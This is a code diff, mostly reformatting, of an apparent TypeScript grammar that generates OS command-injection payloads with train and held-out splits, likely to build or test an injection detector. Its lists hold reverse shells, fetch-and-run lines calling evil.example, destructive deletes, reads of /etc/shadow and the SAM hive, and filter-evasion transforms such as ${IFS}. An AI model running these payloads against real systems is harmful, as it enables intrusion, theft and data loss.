@@ -6,31 +6,106 @@
  */
 import type { Branches, Chooser } from "./grammar";
 
-const VALUES = ["", "", "127.0.0.1", "8.8.8.8", "localhost", "file.txt", "1", "test", "abc", "'", "\"", "x.jpg", "google.com", "a"];
+const VALUES = [
+  "",
+  "",
+  "127.0.0.1",
+  "8.8.8.8",
+  "localhost",
+  "file.txt",
+  "1",
+  "test",
+  "abc",
+  "'",
+  '"',
+  "x.jpg",
+  "google.com",
+  "a",
+];
 const SEPARATORS: Branches<string> = {
   train: [";", "; ", "|", " | ", "||", "&", "&&", " && ", "\n", "%0a", "%3b", "%7c", "\r\n", "%26%26", ";;"],
   held: ["%0d%0a", "\n\n", "%0A", "&;"],
 };
 const UNIX_COMMANDS: Branches<string> = {
   train: [
-    "cat /etc/passwd", "id", "whoami", "uname -a", "ls -la", "ls", "ping -c 3 127.0.0.1", "sleep 5", "cat /etc/shadow",
-    "nc -e /bin/sh 10.0.0.1 4444", "wget http://evil.example/sh -O /tmp/sh", "curl http://evil.example/x.sh | sh",
-    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "rm -rf /", "echo vulnerable", "/bin/sh", "/usr/bin/id", "ifconfig",
-    "netstat -an", "ps aux", "env", "cat /proc/self/environ", "python -c 'import os;os.system(\"id\")'",
-    "perl -e 'print 1'", "nslookup evil.example", "chmod 777 /tmp/x", "head /etc/passwd", "tail -n 5 /var/log/auth.log",
-    "find / -perm -4000", "sh -c id", "busybox nc 10.0.0.1 1234 -e sh", "cat$IFS/etc/passwd", "echo $(whoami)",
-    "sleep 10", "ping -n 5 127.0.0.1", "telnet 10.0.0.1 23", "touch /tmp/pwned", "kill -9 1", "crontab -l",
+    "cat /etc/passwd",
+    "id",
+    "whoami",
+    "uname -a",
+    "ls -la",
+    "ls",
+    "ping -c 3 127.0.0.1",
+    "sleep 5",
+    "cat /etc/shadow",
+    "nc -e /bin/sh 10.0.0.1 4444",
+    "wget http://evil.example/sh -O /tmp/sh",
+    "curl http://evil.example/x.sh | sh",
+    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    "rm -rf /",
+    "echo vulnerable",
+    "/bin/sh",
+    "/usr/bin/id",
+    "ifconfig",
+    "netstat -an",
+    "ps aux",
+    "env",
+    "cat /proc/self/environ",
+    "python -c 'import os;os.system(\"id\")'",
+    "perl -e 'print 1'",
+    "nslookup evil.example",
+    "chmod 777 /tmp/x",
+    "head /etc/passwd",
+    "tail -n 5 /var/log/auth.log",
+    "find / -perm -4000",
+    "sh -c id",
+    "busybox nc 10.0.0.1 1234 -e sh",
+    "cat$IFS/etc/passwd",
+    "echo $(whoami)",
+    "sleep 10",
+    "ping -n 5 127.0.0.1",
+    "telnet 10.0.0.1 23",
+    "touch /tmp/pwned",
+    "kill -9 1",
+    "crontab -l",
   ],
-  held: ["php -r 'system(\"id\");'", "awk 'BEGIN{system(\"id\")}'", "dig evil.example", "xterm -display 10.0.0.1:1", "getent passwd", "base64 /etc/passwd"],
+  held: [
+    "php -r 'system(\"id\");'",
+    "awk 'BEGIN{system(\"id\")}'",
+    "dig evil.example",
+    "xterm -display 10.0.0.1:1",
+    "getent passwd",
+    "base64 /etc/passwd",
+  ],
 };
 const WINDOWS_COMMANDS: Branches<string> = {
   train: [
-    "dir", "dir c:\\", "type c:\\windows\\win.ini", "net user", "whoami", "ipconfig /all", "systeminfo", "tasklist",
-    "cmd /c whoami", "powershell -enc SQBFAFgA", "powershell -c \"iex(new-object net.webclient).downloadstring('http://evil.example/a')\"",
-    "net localgroup administrators", "ping -n 3 127.0.0.1", "timeout /t 5", "certutil -urlcache -f http://evil.example/a.exe a.exe",
-    "type %SYSTEMROOT%\\win.ini", "echo %USERNAME%", "del /f /q c:\\*.*", "copy con x.bat", "dir+c:\\",
+    "dir",
+    "dir c:\\",
+    "type c:\\windows\\win.ini",
+    "net user",
+    "whoami",
+    "ipconfig /all",
+    "systeminfo",
+    "tasklist",
+    "cmd /c whoami",
+    "powershell -enc SQBFAFgA",
+    "powershell -c \"iex(new-object net.webclient).downloadstring('http://evil.example/a')\"",
+    "net localgroup administrators",
+    "ping -n 3 127.0.0.1",
+    "timeout /t 5",
+    "certutil -urlcache -f http://evil.example/a.exe a.exe",
+    "type %SYSTEMROOT%\\win.ini",
+    "echo %USERNAME%",
+    "del /f /q c:\\*.*",
+    "copy con x.bat",
+    "dir+c:\\",
   ],
-  held: ["wmic process list", "reg query HKLM\\SAM", "bitsadmin /transfer x http://evil.example/a.exe c:\\a.exe", "nltest /dclist:"],
+  held: [
+    "wmic process list",
+    "reg query HKLM\\SAM",
+    "bitsadmin /transfer x http://evil.example/a.exe c:\\a.exe",
+    "nltest /dclist:",
+  ],
 };
 
 function command(c: Chooser): string {
@@ -40,6 +115,7 @@ function command(c: Chooser): string {
 /** Hides a Unix command's words from naive filters. */
 const EVASIONS: Branches<(cmd: string) => string> = {
   train: [
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal shell text ${IFS}
     (cmd) => cmd.replaceAll(" ", "${IFS}"),
     (cmd) => cmd.replaceAll(" ", "$IFS$9"),
     (cmd) => cmd.replace(/^(\w)(\w+)/, "$1'$2'").replace(/^(\w)'(\w)/, "$1'$2"),
@@ -50,13 +126,17 @@ const EVASIONS: Branches<(cmd: string) => string> = {
     (cmd) => cmd.replaceAll(" ", "%20"),
     (cmd) => cmd.replaceAll(" ", "+"),
   ],
-  held: [(cmd) => cmd.replaceAll(" ", "<"), (cmd) => cmd.replaceAll(" ", "\t"), (cmd) => cmd.replace(/^(\w+)/, "$1$@")],
+  held: [
+    (cmd) => cmd.replaceAll(" ", "<"),
+    (cmd) => cmd.replaceAll(" ", "\t"),
+    (cmd) => cmd.replace(/^(\w+)/, "$1$@"),
+  ],
 };
 
 /** The families of the grammar. */
 const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
   separated: (c) => {
-    const tail = c.chance(0.3) ? c.branch(SEPARATORS) : c.pick(["", "", "#", " #", "&", ";", "|", "'", "\""]);
+    const tail = c.chance(0.3) ? c.branch(SEPARATORS) : c.pick(["", "", "#", " #", "&", ";", "|", "'", '"']);
     return `${c.pick(VALUES)}${c.branch(SEPARATORS)}${command(c)}${tail}`;
   },
   substitution: (c) =>
